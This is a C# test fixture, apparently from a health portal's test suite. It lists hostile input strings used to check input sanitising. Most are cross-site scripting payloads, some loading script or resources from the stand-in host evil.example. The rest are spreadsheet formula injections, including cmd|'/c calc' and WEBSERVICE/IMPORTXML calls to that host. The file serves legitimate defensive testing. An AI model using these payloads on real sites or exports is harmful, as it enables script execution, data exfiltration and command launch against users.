namespace Helsenorge.Portal.Testing;

/// <summary>Texts that have been used to make a page run something, or a spreadsheet calculate it.</summary>
public static class HostileTexts
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</td><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
        "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<form action=javascript:alert(1)><input type=submit>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{background:url(//evil.example)}</style>",
        "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<table background=javascript:alert(1)>", "<!--<script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\u003cscript\u003ealert(1)\u003c/script\u003e", "＜script＞alert(1)＜/script＞",
        "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "`-alert(1)-`", "\\\"-alert(1)}//", "x\u2028alert(1)\u2029",
        "=1+1", "=cmd|'/c calc'!A1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\",\"//a\")", "=WEBSERVICE(\"http://evil.example\")",
        "+1+1", "+cmd|'/c calc'!A1", "-1+1", "-2+3+cmd|'/c calc'!A1", "@SUM(1+1)",
        "@SUM(1+1)*cmd|'/c calc'!A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
        "a;=1+1", "a\";=1+1;\"", "a\r\n=1+1", "a\n=1+1;b", "\u200b=1+1",
        "'=1+1", "\u00a0=1+1", "%0A=1+1", "|calc", "kari\";\"petter",
    ];
}
